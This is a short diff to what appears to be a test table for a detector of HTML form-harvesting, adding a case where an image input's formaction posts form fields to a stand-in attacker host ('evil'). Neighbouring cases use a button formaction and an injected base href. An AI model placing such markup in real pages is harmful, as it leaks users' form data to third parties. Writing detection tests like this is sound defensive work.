@@ -113,6 +113,11 @@ HARVESTS = {
         f"<form method=post>{FIELDS}<button formaction='{{evil}}/x'>Go</button></form>",
         "is sent to http://evil",
     ),
+    "picture for another site": (
+        "shop",
+        f"<form method=post><input type=image formaction='{{evil}}/x'>{FIELDS}</form>",
+        "is sent to http://evil",
+    ),
     "base of another site": ("shop", "<base href='{evil}/'>{form}", "is sent to http://evil"),
     "action hidden by a field": (
         "shop",
